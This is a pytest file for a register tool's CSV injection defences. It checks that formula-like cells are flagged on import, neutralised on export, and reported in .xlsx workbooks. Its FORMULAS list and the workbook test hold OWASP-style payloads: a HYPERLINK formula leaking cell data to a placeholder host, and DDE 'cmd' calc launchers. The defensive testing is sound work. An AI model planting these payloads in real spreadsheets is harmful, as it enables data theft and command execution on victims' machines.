"""CSV injection: register cells a spreadsheet would run as formulas are reported on import
(kept as text, flagged), come back neutralised (a leading ') from every CSV hubspoke writes,
and a formula in an .xlsx cell is reported, never read as empty."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest

from graph.cli import main
from graph.register import default_data_dir
from graph.register.columns import COLUMN_NAMES, template_text

# the forms tried (OWASP's CSV injection examples)
FORMULAS = [
    '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Click for the report")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
]


def example_row() -> dict[str, str]:
    rows = list(csv.DictReader(io.StringIO(template_text(example=True))))
    return dict(rows[0])


def write_register(path: Path, notes: str, funders: str | None = None) -> Path:
    row = example_row()
    row["notes"] = notes
    if funders is not None:
        row["funders"] = funders
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(COLUMN_NAMES), lineterminator="\r\n")
    writer.writeheader()
    writer.writerow(row)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_like_cell_is_flagged_on_import_and_neutralised_on_export(
    formula: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = Path(shutil.copytree(default_data_dir(), tmp_path / "data"))
    sheet = write_register(tmp_path / "register.csv", formula)
    assert main(["register", "import", str(sheet), "--data-dir", str(data)]) == 0
    out = capsys.readouterr().out
    assert "start like a spreadsheet formula" in out and "column notes" in out
    for audience in ("public", "team"):
        exported = tmp_path / f"{audience}.csv"
        args = ["register", "export", "--audience", audience, "--out", str(exported)]
        assert main([*args, "--data-dir", str(data)]) == 0
        (row,) = list(csv.DictReader(io.StringIO(exported.read_text(encoding="utf-8-sig"))))
        assert row["notes"] == "'" + formula  # inert in any spreadsheet
    capsys.readouterr()
    # the neutralised export imports back to the same register (the ' is not content)
    before = (data / "register.ttl").read_bytes()
    assert main(["register", "import", str(tmp_path / "team.csv"), "--data-dir", str(data)]) == 0
    assert (data / "register.ttl").read_bytes() == before


def test_a_formula_in_a_workbook_cell_is_reported(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "register"
    row = example_row()
    sheet.append(list(COLUMN_NAMES))
    sheet.append([row[name] for name in COLUMN_NAMES])
    sheet["O2"] = '=HYPERLINK("http://127.0.0.1:9/","report")'  # the notes cell
    path = tmp_path / "register.xlsx"
    book.save(path)
    data = Path(shutil.copytree(default_data_dir(), tmp_path / "data"))
    assert main(["register", "import", str(path), "--data-dir", str(data)]) == 1
    err = capsys.readouterr().err
    assert "row 2, column O" in err and "formula" in err and "Traceback" not in err
